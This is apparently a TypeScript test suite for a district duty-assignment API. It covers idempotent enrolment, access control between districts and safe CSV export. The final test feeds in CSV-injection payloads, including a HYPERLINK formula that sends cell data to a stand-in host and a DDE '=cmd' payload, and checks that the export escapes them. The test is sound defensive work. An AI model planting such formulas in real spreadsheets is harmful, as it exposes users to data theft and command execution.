import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import test, { after, before } from 'node:test';
import { readCsv } from '../../kernel/csv.ts';
import { Declined } from '../../apps/demo/client.ts';
import type { ImportView, PreviewView } from '../../features/responsibility/rules/view.ts';
import { crew, inEast } from './crew.ts';
import { fingerprint } from './hostile.ts';
import { say } from './say.ts';
import { type Site, openSite } from './site.ts';
import { caseAt, report } from './story.ts';

let site: Site;
before(async () => {
  site = await openSite({ people: crew });
});
after(() => site.close());

const post = async <T>(account: string, path: string, body: object, key: string = randomUUID()): Promise<T> =>
  (await site.as(account)).ask<T>('POST', path, { body, more: { 'idempotency-key': key } });
const code = (work: Promise<unknown>): Promise<string> =>
  work.then(
    () => 'ok',
    (thrown: unknown) => {
      if (thrown instanceof Declined) return thrown.code;
      throw thrown;
    },
  );
const many = <T>(n: number, work: () => Promise<T>) => Promise.all(Array.from({ length: n }, work));
const count = async (sql: string, ...params: unknown[]) =>
  (await site.database.one<{ n: number }>(`select count(*) as n from ${sql}`, params)).n;

const row = (id: string, more: object = {}) => ({
  id,
  matter: { kind: 'matter', code: '06010' },
  territory: '440399001',
  from: '2026-01-01',
  party: 'sweep',
  basis: { zh: '试', en: 'x' },
  priority: 7,
  ...more,
});
const DUTY = '/api/responsibility';
type Change = { rows: object[]; remove: string[]; onDay?: string };
const preview = (account: string, change: Change) => post<PreviewView>(account, `${DUTY}/preview`, change);
const save = (account: string, change: Change, token: string) =>
  post<{ version: number }>(account, `${DUTY}/rows`, { ...change, token, because: '测试改动' });
const saved = async (account: string, change: Change) => save(account, change, (await preview(account, change)).token);

test('a device enrolled ten times at once under one key is one device, and all ten hear the same secrets', async () => {
  for (const door of ['own', 'osmand', 'owntracks'] as const) {
    const key = randomUUID();
    const said = { door, name: '巡查手机', street: '440399001', ...(door === 'owntracks' ? { identity: `chen/${key.slice(0, 8)}` } : {}) };
    const heard = await many(10, () => post('west-administrator', '/api/devices', said, key));
    assert.equal(new Set(heard.map((each) => JSON.stringify(each))).size, 1);
    assert.equal(await count('device where id = $1', key), 1);
    assert.equal(await code(post('west-administrator', '/api/devices', { ...said, name: '别的' }, key)), 'key-used-for-something-else');
    assert.equal(
      await code(post('east-administrator', '/api/devices', { ...said, street: '440399002' }, key)),
      'key-used-for-something-else',
    );
    assert.equal(await code(post('west-administrator', `/api/devices/${key}/end`, {})), 'ok');
    assert.deepEqual(await post('west-administrator', '/api/devices', said, key), heard[0], 'answered, and not enrolled anew');
    assert.equal(await count('device where id = $1 and ended_at is not null', key), 1);
  }
});

test('two devices of one name are enrolled under two keys, with secrets of their own', async () => {
  const said = { door: 'own', name: '同名', street: '440399001' };
  type Enrolled = { identity: string; key: string };
  const [one, other] = [
    await post<Enrolled>('west-administrator', '/api/devices', said),
    await post<Enrolled>('west-administrator', '/api/devices', said),
  ];
  assert.notEqual(one.identity, other.identity);
  assert.notEqual(one.key, other.key);
});

test('a paper granted ten times at once under one key is one version with one event; with other words the key is refused', async () => {
  const key = randomUUID();
  const entry = {
    id: 'SQ-ONCE',
    name: { zh: '试', en: 'x' },
    document: '试〔2026〕1号',
    body: 'office-ch',
    company: 'butler',
    areas: ['440399001'],
    from: '2026-01-01',
    until: '2027-01-01',
    permitted: ['look'],
  };
  const heard = await many(10, () => post<{ version: number }>('west-leader', `${DUTY}/authorisations`, entry, key));
  assert.deepEqual(new Set(heard.map(({ version }) => version)), new Set([1]));
  assert.equal(await count("responsibility_event where body ->> 'id' = 'SQ-ONCE'"), 1);
  await site.as('west-dispatcher');
  const held = await fingerprint(site);
  assert.equal(
    await code(post('west-leader', `${DUTY}/authorisations`, { ...entry, document: '另一号' }, key)),
    'key-used-for-something-else',
  );
  assert.equal(await code(post('west-dispatcher', `${DUTY}/authorisations`, entry, key)), 'key-used-for-something-else');
  assert.equal(await fingerprint(site), held);
  const turn = randomUUID();
  const suspend = (reason: string) =>
    post<{ version: number }>('west-leader', `${DUTY}/authorisations/SQ-ONCE/status`, { status: 'suspended', reason }, turn);
  assert.deepEqual(
    (await many(10, () => suspend('查一查'))).map(({ version }) => version),
    Array(10).fill(2),
  );
  assert.equal(await code(suspend('另一个理由')), 'key-used-for-something-else');
  assert.equal(await count("responsibility_event where body ->> 'id' = 'SQ-ONCE'"), 2);
});

test('a token that was saved once opens nothing to other rows', async () => {
  const change = { rows: [row('D910')], remove: [] };
  const { token } = await preview('west-leader', change);
  const { version } = await save('west-leader', change, token);
  assert.equal((await save('west-leader', change, token)).version, version, 'said again, answered again');
  const held = await fingerprint(site);
  assert.equal(await code(save('west-leader', { rows: [row('D910', { party: 'water' })], remove: [] }, token)), 'preview-stale');
  assert.equal(await code(save('west-leader', { rows: [], remove: ['D910'] }, token)), 'preview-stale');
  assert.equal(await fingerprint(site), held);
});

test('rows of another street are changed by none but its own keepers: not put, not moved, not taken out, not taken back', async () => {
  await saved('east-leader', { rows: [row('D920', { territory: '440399002' })], remove: [] });
  const held = await fingerprint(site);
  for (const change of [
    { rows: [row('D921', { territory: '440399002' })], remove: [] },
    { rows: [row('D921', { territory: '440399002001' })], remove: [] },
    { rows: [row('D920')], remove: [] },
    { rows: [], remove: ['D920'] },
    { rows: [row('D922')], remove: ['D920'] },
  ])
    assert.equal(await code(saved('west-leader', change)), 'street-not-yours', JSON.stringify(change));
  assert.equal(await fingerprint(site), held);
  const waiting = await saved('east-leader', { rows: [row('D923', { territory: '440399002' })], remove: [], onDay: '2026-04-01' });
  assert.equal(await code(post('west-leader', `${DUTY}/lists/${waiting.version}/withdraw`, {})), 'street-not-yours');
  assert.equal(await code(post('east-leader', `${DUTY}/lists/${waiting.version}/withdraw`, {})), 'ok');
  assert.equal(
    await code(saved('west-leader', { rows: [row('D924', { territory: null })], remove: [] })),
    'ok',
    'everywhere is everybody’s',
  );
});

test('a preview counts every street and names cases of the reader’s own only', async () => {
  const eastern = await report(site, '东边垃圾成堆', inEast);
  await (await site.as('east-shift_leader')).say(eastern.id, { type: 'file', matter: 'matter:06010', condition: 'seen' } as never);
  const western = await caseAt(site, 'to_dispatch');
  site.clock.at = (site.clock.at + 600_000) as typeof site.clock.at;
  const change = {
    rows: [row('D930', { territory: null, party: 'water', matter: { kind: 'matter', code: '06010' }, priority: 900 })],
    remove: [],
  };
  const named = async (account: string) => {
    const told = await preview(account, change);
    return { ids: new Set(told.shifts.flatMap(({ samples }) => samples.map(({ id }) => id))), moved: told.moved };
  };
  const [west, east] = [await named('west-leader'), await named('east-leader')];
  assert.equal(west.moved, east.moved);
  assert.deepEqual([west.ids.has(western.id), west.ids.has(eastern.id)], [true, false]);
  assert.deepEqual([east.ids.has(western.id), east.ids.has(eastern.id)], [false, true]);
});

const FORMULA = /^\s*[=+\-@＝＋－＠\t\r]/;
test('what looks like a formula leaves as text in the sheet and comes back as it was', async () => {
  const starts = [
    '=HYPERLINK("http://x/?"&A1,"看")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    "'=1",
    "''x",
    '\t=1+1',
    ' =1+1',
    '"=1+1"',
    "=cmd|'/c calc'!A1",
  ];
  const rows = starts.map((zh, i) =>
    row(`D95${String(i).padStart(2, '0')}`, { basis: { zh, en: zh }, clause: { contract: 'C-CH', clause: zh } }),
  );
  await saved('west-leader', { rows, remove: [] });
  const { text: csv, status } = await say(site.port, {
    path: `${DUTY}/duty.csv`,
    headers: { authorization: `Bearer ${await site.token('west-leader')}` },
  });
  assert.equal(status, 200);
  const sheet = readCsv(csv);
  assert.ok(sheet.rows.length >= rows.length);
  for (const { line, cells } of sheet.rows)
    for (const [column, cell] of cells) assert.ok(!FORMULA.test(cell) || /^-?\d+$/.test(cell), `line ${line}, ${column}: ${cell}`);
  const back = await post<ImportView>('west-leader', `${DUTY}/import`, { csv });
  assert.deepEqual(back.cells, []);
  assert.deepEqual([back.preview?.put, back.preview?.removed], [[], []], 'the same rows');
});
